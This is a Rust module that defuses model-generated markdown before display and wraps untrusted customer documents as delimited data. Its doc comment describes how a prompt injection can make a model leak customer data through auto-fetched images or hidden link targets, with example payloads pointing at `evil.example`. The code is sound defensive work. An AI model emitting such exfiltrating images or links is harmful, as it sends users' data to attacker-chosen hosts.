//! Model output made safe to show, and untrusted input made safe to embed.
//!
//! **Output.** A reply (or a document rendered from the model's fields) is
//! markdown that a client renders. An image there is fetched as soon as it is
//! shown, and a link's target is hidden behind its text, so either can carry
//! customer data to a host of the model's (or a prompt injection's) choosing.
//! [`LinkPolicy::defuse`] makes them inert:
//!
//! - an image (`![alt](url)`, also reference-style) whose URL is absolute and
//!   not on an allowlisted host becomes its alt text and the URL in a code span:
//!   `![x](https://evil.example/?d=acme)` → ``x (blocked image: `https://evil.example/?d=acme`)``;
//! - a link (`[text](url)`, reference-style, `<url>` autolinks) to a host not
//!   on the allowlist whose URL can carry data (a query, a fragment, user
//!   info, a scheme other than http(s), or a data-looking path: see
//!   `url::data_looking`) becomes its text and the URL the same way:
//!   `[report](https://evil.example/?d=acme)` → ``report (blocked link: `https://evil.example/?d=acme`)``;
//!   a plain link such as `https://www.svpg.com/the-product-model/` stays;
//! - raw HTML other than attribute-free formatting tags (`<b>`, `</p>`, `<br>`)
//!   is shown as text (`<img src=…>` → `&lt;img src=…>`), allowlisted or not;
//! - relative URLs and allowlisted hosts (`[output] allowed_link_hosts`:
//!   `docs.example.com` exactly, `*.example.com` any subdomain) stay;
//! - code blocks and code spans are left alone, and so are bare URLs, which
//!   show their whole address to the reader.
//!
//! Streamed text is defused as it is written: see [`StreamDefuser`].
//!
//! **Input.** [`data_block`] embeds customer documents and sibling answers so
//! that nothing in them can end the block that marks them as data.

mod data_block;
mod html;
mod markdown;
mod stream;
mod url;

pub use data_block::data_block;
pub use stream::StreamDefuser;

/// Which hosts links and images may point at.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct LinkPolicy {
    /// Hosts allowed exactly, lower-case.
    hosts: Vec<String>,
    /// `.example.com` for an entry `*.example.com`: any subdomain.
    suffixes: Vec<String>,
}

impl LinkPolicy {
    /// A policy allowing `hosts`: `docs.example.com` that host exactly,
    /// `*.example.com` any of its subdomains. Case and a trailing dot are ignored.
    pub fn new<S: AsRef<str>>(hosts: impl IntoIterator<Item = S>) -> Self {
        let mut policy = Self::default();
        for host in hosts {
            let host = host
                .as_ref()
                .trim()
                .trim_end_matches('.')
                .to_ascii_lowercase();
            match host.strip_prefix("*.") {
                Some(domain) if !domain.is_empty() => policy.suffixes.push(format!(".{domain}")),
                _ if !host.is_empty() => policy.hosts.push(host),
                _ => {}
            }
        }
        policy
    }

    /// Whether links and images may point at `host` (lower-case, no port).
    pub fn allows(&self, host: &str) -> bool {
        self.hosts.iter().any(|h| h == host)
            || self
                .suffixes
                .iter()
                .any(|s| host.len() > s.len() && host.ends_with(s.as_str()))
    }

    /// `markdown` with what the policy does not let through made inert (see
    /// the module documentation).
    pub fn defuse(&self, markdown: &str) -> String {
        markdown::defuse(markdown, self)
    }

    /// A filter for one streamed answer.
    pub fn stream(&self) -> StreamDefuser<'_> {
        StreamDefuser::new(self)
    }
}

#[cfg(test)]
mod tests;
